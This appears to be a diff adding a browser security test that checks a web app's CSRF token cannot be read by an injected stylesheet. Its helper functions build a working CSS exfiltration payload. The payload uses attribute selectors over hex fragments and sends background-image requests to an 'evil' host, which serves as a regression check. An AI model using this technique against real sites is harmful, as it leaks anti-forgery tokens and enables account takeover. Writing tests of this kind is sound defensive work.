@@ -1,0 +1,52 @@
+"""The CSRF token of a page, out of reach of a style that somebody injects, in a real browser."""
+
+from itertools import product
+
+from flask import Flask, render_template
+from playwright.sync_api import Page
+
+from app.security.sources import HTTPS, SELF, UNSAFE_INLINE
+from tests.browser.conftest import Elsewhere, Serve, log_in
+from tests.conftest import MakeApp
+
+# Where pages like to keep a token.
+ATTRIBUTES = ("content", "value", "title", "data-csrf-token", "data-csrf", "data-token")
+PARTS = ["".join(digits) for digits in product("0123456789abcdef", repeat=3)]
+DECOY = "decoy"
+
+
+def test_a_style_reads_no_part_of_it(make_app: MakeApp, serve: Serve, page: Page) -> None:
+    app, elsewhere = make_app(**loose_styles(make_app())), Elsewhere()
+    evil = serve(elsewhere, https=True).at("127.0.0.1")
+    site = serve(app).at("localhost")
+
+    @app.get("/victim")
+    def victim() -> str:
+        injected = f'<i title="{DECOY}"></i><style>{style(evil)}</style></body>'
+        return render_template("base.html").replace("</body>", injected)
+
+    log_in(page, site)
+    page.goto(f"{site}/victim", wait_until="networkidle")
+    assert page.locator("#csrf-token").count() == 1
+    assert list(elsewhere.asked.queue) == [f"/{DECOY}"]
+
+
+def loose_styles(app: Flask) -> dict[str, object]:
+    """A policy that lets styles of strangers in, and images from anywhere."""
+    loose = {"style-src": [SELF, UNSAFE_INLINE], "img-src": [HTTPS]}
+    return {"CSP": {**app.config["CSP"], **loose}}
+
+
+def style(evil: str) -> str:
+    """Ask another site for each part that stands in one of the attributes, all in one load."""
+    rules = [f":root:has({selectors(part)}) {{--{part}: url({evil}/{part})}}" for part in told()]
+    images = ", ".join(f"var(--{part}, none)" for part in told())
+    return "\n".join([*rules, f":root {{background: {images}}}"])
+
+
+def selectors(part: str) -> str:
+    return ", ".join(f'[{attribute}*="{part}"]' for attribute in ATTRIBUTES)
+
+
+def told() -> list[str]:
+    return [DECOY, *PARTS]
